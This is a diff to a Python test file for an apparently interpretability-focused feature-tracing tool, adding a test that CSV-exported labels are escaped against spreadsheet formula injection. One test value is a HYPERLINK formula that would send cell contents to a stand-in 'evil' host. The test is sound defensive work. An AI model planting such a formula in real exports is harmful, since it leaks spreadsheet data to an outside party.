@@ -10,6 +10,7 @@ import pytest
 from axon_widget import wire
 from axon_widget.engine.sampling import Sampling
 from axon_widget.export import csv, page, replay_data, to_html
+from axon_widget.labels.text import no_formula, without_apostrophe
 from axon_widget.trace import Feature, Fit, Origin, SAEOrigin, Steer, Steered, Steering, TokenStep, Trace
 from tests.unit.fakes import FakeTracer
 
@@ -170,3 +171,13 @@ def test_a_trace_that_names_no_sae_can_be_shown(tmp_path):
     trace = Trace(steps=[TokenStep(" a", 1, 0, 0, True, features=(Feature(3, 1.0, 2, "a label"),))])
     data = json.loads(part(to_html(trace, tmp_path / "run.html").read_text(encoding="utf-8"), "axon-replay"))
     assert [(f["sae"], f["id"], f["label"]) for f in data["features"]] == [(0, 3, "a label")]
+
+
+@pytest.mark.parametrize("label", ['=HYPERLINK("http://evil/"&A1,"x")', "+1", "-ing, …", "@SUM(A1)", "\t=1"])
+def test_no_label_is_a_formula_to_a_spreadsheet(trace, label):
+    trace.append(TokenStep(" x", 6, 6, 6, True, features=(Feature(7, 2.0, 3, label),)))
+    trace = Trace.from_json(trace.to_json())
+    cell = pd.read_csv(io.StringIO(csv(trace)), keep_default_na=False).label.iloc[-1]
+    assert cell == f"'{label}"
+    assert without_apostrophe(cell) == label
+    assert [no_formula(text) for text in ("plain", "", "'x", "a=b")] == ["plain", "", "'x", "a=b"]
